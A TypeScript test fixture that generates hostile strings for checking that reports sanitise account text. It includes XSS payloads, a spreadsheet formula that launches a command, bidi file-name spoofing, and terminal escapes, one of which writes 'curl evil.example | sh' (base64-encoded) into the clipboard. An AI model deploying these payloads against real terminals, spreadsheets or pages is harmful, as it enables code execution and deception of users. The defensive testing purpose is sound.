// Text a learner's account (or a user's file) can carry that a report must never pass through raw: terminal
// escapes, controls, bidi overrides, markup, CSV and formula syntax, invalid UTF-16, and sheer size.
import fc from 'fast-check';

/** Every payload starts with this, so a test can tell that account text reached a report at all. */
export const MARKER = 'HOSTILE';

export const HOSTILE_PARTS = {
  c0Controls: '\x00\x01\x07\x08\x0b\x0c\x0e\x1f\x7f',
  csi: '\x1b[31mred\x1b[0m\x1b[2J\x1b[H\x1b[1A',
  osc8Hyperlink: '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\',
  osc52Clipboard: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  c1Controls: '\x9b31m\x9d8;;https://evil.example/\x9c\x85\x8d',
  bidiOverrides: '\u202egnp.exe\u202c\u2066\u2067\u2068\u2069\u202a\u202b\u202d',
  html: '<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:x">&amp;',
  cdataEnd: ']]>]]>',
  csv: 'a,"b""c"\nnext line\r\nthird',
  formula: "=cmd|' /C calc'!A0",
  carriageReturn: 'all good\rFORGED LINE',
  lineSeparators: '\u2028\u2029\u0085',
  xmlNonCharacters: '\ufffe\uffff',
  loneSurrogates: '\ud800x\udfff\udbff',
} as const;

/** One short string with every hostile part: what a sweep puts in each field. */
export const HOSTILE = `${MARKER} ${Object.values(HOSTILE_PARTS).join(' ')}`;

/** Each part on its own (a formula only works at the start of a cell, an escape must not be split). */
export const HOSTILE_EACH: readonly string[] = Object.values(HOSTILE_PARTS).map((part) => `${part}${MARKER}`);

/** 1 MB of hostile text. */
export const HOSTILE_HUGE = `${HOSTILE} ${'\x1b[7m<script>x</script>\u202e,"\r\n'.repeat(40_000)}`.slice(0, 1024 * 1024);

/** A JSON text nested `levels` deep (arrays inside objects), as a learner's function could return. */
export function deepJson(levels: number): string {
  return '{"a":['.repeat(levels) + '1' + ']}'.repeat(levels);
}

/** Strings from the hostile catalogue, arbitrary code points, and mixtures of both. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(HOSTILE, ...HOSTILE_EACH),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.array(fc.oneof(fc.constantFrom(...Object.values(HOSTILE_PARTS)), fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 4 }).map((parts) => parts.join('')),
);
